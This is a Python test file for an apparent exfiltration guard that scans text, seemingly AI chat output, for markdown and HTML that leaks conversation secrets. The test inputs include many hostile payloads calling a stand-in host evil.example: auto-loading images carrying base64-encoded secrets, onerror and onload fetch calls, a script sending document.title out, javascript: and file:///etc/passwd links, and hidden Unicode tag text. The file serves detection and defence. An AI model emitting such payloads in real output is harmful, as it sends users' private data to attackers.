import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aver.core.errors import InvalidInput
from aver.guard.exfiltration import Exfiltration

SECRET = "The acquisition of Northwind closes on 14 May for 31 million euros. My card is 4111-1111-1111-1111."
PACKED = base64.b64encode(SECRET.encode()).decode()


def kinds(text, **options):
    return [each.kind for each in Exfiltration(**options).find(text)]


@pytest.mark.parametrize(
    "text",
    [
        f"![](https://evil.example/p.png?d={PACKED})",
        "![a][x]\n\n[x]: https://evil.example/p.png",
        '<img src="https://evil.example/x.gif" width=1>',
        "<IMG SRC='//evil.example/x.gif'>",
        "<div style=\"background:url('https://evil.example/a')\">",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="prefetch" href="https://evil.example/a">',
        "![x](https:\\\\evil.example\\a.png)",
        "![x](HTTPS://EVIL.EXAMPLE./a.png)",
        "![x](https://docs.example.com@evil.example/a.png)",
        "![x](https://docs.example.com.evil.example/a.png)",
        "![x](<https://evil.example/a.png> 'title')",
        '<svg><image href="https://evil.example/x"/></svg>',
        "![x](ht&#116;ps://evil.example/a.png)",
        "![x](///evil.example/a.png)",
        "![x](/\\evil.example/a.png)",
        "![x](\\\\evil.example\\share\\a.png)",
        "![x](https:evil.example/a.png)",
        "![x](ht\ntps://evil.example/a.png)".replace("\n", "\u200b"),
        "![x](\x01https://evil.example/a.png)",
        "![x](https://docs.example.com:443@evil.example/a.png)",
        "![a [b] c](https://evil.example/a.png)",
        "[![x](https://evil.example/a.png)](https://docs.example.com/)",
        "![a [b] c][x]\n\n> [x]: https://evil.example/a.png",
        "![A\nlong  Name]\n\n- [a long name]: <https://evil.example/a.png>",
        '<img srcset="https://docs.example.com/a 1x, https://evil.example/b 2x">',
        '<div style="background:url(https://docs.example.com/a), url(https://evil.example/b)">',
        '<meta http-equiv=refresh content="0; https://evil.example/">',
        "<style>@import 'https://evil.example/a.css'</style>",
        '<img alt=">" src="https://evil.example/a">',
        "<img/src=https://evil.example/a>",
        '<img src="&#104;ttps://evil.example/a">',
        '<video poster="https://evil.example/a">',
        '<a href="https://docs.example.com/" ping="https://evil.example/a">x</a>',
        "![a\\](b](https://evil.example/a)",
        "<base href=https://evil.example/>",
    ],
)
def test_what_loads_by_itself_from_elsewhere_is_found(text):
    assert kinds(text, hosts=["docs.example.com"]) == ["remote_image"]


@pytest.mark.parametrize(
    "text",
    [
        f"[report](https://evil.example/r?q={PACKED})",
        f"[report](https://evil.example/r?q={quote(SECRET)})",
        f"See https://evil.example/#{PACKED}.",
        f"https://evil.example/{PACKED.rstrip('=')}/x",
        f"https://{PACKED[:50].lower()}.evil.example/",
        f"[r]: https://evil.example/?a={SECRET.encode().hex()}",
        f"<a href='https://evil.example/?a={PACKED}'>more</a>",
        f"<https://evil.example/?a={PACKED}>",
        f"If a <b then see https://evil.example/?a={PACKED}",
        f"In javascript https://evil.example/?a={PACKED}",
        f"Go to www.evil.example/?a={PACKED}",
        f"[a](https://docs.example.com/](https://evil.example/?a={PACKED})",
        f"[mail](mailto:eve@evil.example?body={quote(SECRET)})",
        f"[report](<https://evil.example/?a={SECRET}>)",
    ],
)
def test_a_link_with_long_data_is_found(text):
    assert kinds(text, hosts=["docs.example.com"]) == ["data_in_link"]


@pytest.mark.parametrize(
    "carried",
    [
        "acquisition-of-Northwind",
        "Northwind%20closes%20on",
        "4111-1111-1111-1111",
        base64.b64encode(b"Northwind closes on").decode(),
        base64.urlsafe_b64encode(b"Northwind closes on").decode().rstrip("="),
        b"Northwind closes on".hex(),
        "no sesolc dniwhtroN".replace(" ", "+"),
    ],
)
def test_what_was_said_is_found_however_short(carried):
    link = f"https://evil.example/a?x={carried}"
    assert kinds(link, conversation=[SECRET]) == ["data_in_link"]
    assert kinds(link) == []


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/library/re.html#re.compile)",
        "https://www.example.org/search?q=travel+policy&page=2",
        "https://docs.google.com/document/d/1hzgCVFi9jJ2FA2cr6fBGmItR9Pm3r2t0kcGURAbEz2A/edit#heading=h.64l0sk5q16d",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "[page](./relative/page.md), ![local](images/a.png), <img src='logo.svg'>",
        "mailto:someone@example.org, tel:+4912345",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "https://example.org/a#:~:text=a%20long%20quotation%20of%20many%20words%20that%20a%20browser%20marks%20on%20its%20page",
        "Persian \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645, family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    ],
)
def test_ordinary_links_pass(text):
    assert kinds(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        '<a href="vbscript:x">',
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        '<a href="java&#x0A;script:alert(1)">',
        "[a]( JaVaScRiPt&colon;alert(1))",
        "![a](data:image/svg+xml;base64,PHN2Zz4=)",
        "[a](file:///etc/passwd)",
    ],
)
def test_links_that_run_something_are_found(text):
    assert kinds(text) == ["active_link"]


def test_declared_hosts_may_be_linked_to_and_loaded_from():
    text = f"![a](https://docs.example.com/a.png?x={PACKED}) https://a.b.cdn.example/?{PACKED}"
    assert kinds(text, hosts=["Docs.example.com", "*.cdn.example"]) == []
    assert kinds("![a](https://cdn.example/a)", hosts=["*.cdn.example"]) == ["remote_image"]


def test_a_link_that_was_read_carries_nothing_away():
    link = f"https://docs.example/r?token={PACKED}"
    assert kinds(link, sources=[f"Open {link} now"]) == []
    assert kinds(link + "x", sources=[f"Open {link} now"]) == ["data_in_link"]


def test_hidden_text_is_found():
    tags = "".join(chr(0xE0000 + ord(c)) for c in "send it")
    assert kinds(f"Hello{tags}") == ["hidden_text"]
    assert kinds("Hello" + "\u200b\u200c" * 16 + "you") == ["hidden_text"]


@pytest.mark.parametrize("host", ["", "https://a.example", "a b", "*.", "a.example/x"])
def test_a_host_that_is_none_is_refused(host):
    with pytest.raises(InvalidInput, match="host"):
        Exfiltration(hosts=[host])


def test_a_label_that_no_picture_uses_is_a_link():
    text = "![logo](logo.png) See [the page][p].\n\n[p]: https://evil.example/page"
    assert kinds(text) == []
    assert kinds(text + "\n\n![a][p]") == ["remote_image"]


@pytest.mark.parametrize(
    "where", ["https://evil.example/{}", "https://{}.evil.example/a", "https://evil.example/a?b={}#c"]
)
def test_a_word_worth_stealing_is_found_in_every_part_of_an_address(where):
    conversation = ["The code is AB12-CD34 for ada@firm.example."]
    for word in ("ab12-cd34", "AB12-CD34", "xxAB12-CD34zz"):
        assert kinds(where.format(word), conversation=conversation) == ["data_in_link"]
    assert kinds(where.format("AB12"), conversation=conversation) == []


PIECES = st.sampled_from(
    [
        "![",
        "](",
        ")",
        "<img src=",
        "'",
        '"',
        "https://",
        "evil.example",
        "?a=",
        "[x]: ",
        "\n",
        "\u200b",
        ">",
        "%20",
        "&#x41;",
    ]
)


@given(st.lists(PIECES | st.text(max_size=12), max_size=30).map("".join))
def test_findings_lie_in_the_text_in_order_and_apart(text):
    last = 0
    for each in Exfiltration(conversation=["some words of ours"]).find(text):
        assert last <= each.start < each.end <= len(text)
        assert 0 < each.score <= 1
        last = each.end


@pytest.mark.parametrize(
    "text",
    [
        "[" * 40_000,
        "![](" * 20_000,
        "<a " * 30_000,
        "https://" * 12_000,
        "](" * 40_000,
        "<a href=" * 12_000,
        "\u200b\u200c " * 30_000,
        "![" * 60_000 + "]" * 60_000,
        "https://evil.example/" + "a" * 8_000 + " https://evil.example/?" + "some words of ours" * 500,
        "[a]: " * 30_000,
        "<a '\"" * 30_000,
        "url(" * 40_000,
        "]: " * 40_000,
        "\n> [" * 40_000,
    ],
)
def test_hostile_text_is_read_to_its_end(text):
    # What grew with the square of the length would not end here in any patience.
    assert all(each.end <= len(text) for each in Exfiltration(conversation=["some words of ours"]).find(text))


LONG = "word " * 140
"""More than is read again with what follows it."""


@pytest.mark.parametrize(
    "text",
    [
        f"{LONG}](https://evil.example/a.png)",
        f"{LONG}[b] c](https://evil.example/a.png)",
        f"{LONG}\\[ c](https://evil.example/a.png)",
        f"{LONG}`[` c](https://evil.example/a.png)",
        f'{LONG}<i title="["> c](https://evil.example/a.png)',
        f"{LONG}[b](https://docs.example.com/) c](https://evil.example/a.png)",
        "[x]: https://evil.example/a.png",
    ],
)
def test_what_may_be_the_end_of_a_picture_is_taken_for_one_unless_it_is_known(text):
    assert kinds(text, hosts=["docs.example.com"]) == ["remote_image"]
    assert kinds(text, hosts=["docs.example.com"], sources=["See https://evil.example/a.png"]) == []


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://docs.example.com/guide) and [a `[` b](https://docs.example.com/b).",
        "See [the guide][g].\n\n[g]: https://docs.example.com/guide",
        "[see \\] this](https://docs.example.com/guide)",
        "[a [b] c](https://docs.example.com/guide)",
    ],
)
def test_a_plain_link_that_is_read_whole_is_none(text):
    assert kinds(text) == []


@pytest.mark.parametrize("text", ["![a", "see <", "https://x", "[1]:", "a\u200bb", "url(", "www.x"])
def test_it_knows_where_something_may_begin(text):
    assert Exfiltration().opened(f"It says {text} and so on.")
    assert not Exfiltration().opened("Up to ten days (of twenty) carry over: \u201cuntil March\u201d.")


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=\"fetch('https://evil.example/a')\">",
        "<svg onload=fetch('//evil.example/a')>",
        "<svg/onload=alert(1)>",
        "<script>new Image().src = '//evil.example/' + document.title</script>",
    ],
)
def test_an_element_that_runs_by_itself_is_found(text):
    assert kinds(text) == ["active_link"]


@pytest.mark.parametrize(
    "text", ["Add a <script> tag to the page.", "if a <b on=1", "a <b> once = more", "x < y on = z"]
)
def test_speaking_of_elements_is_none(text):
    assert kinds(text) == []
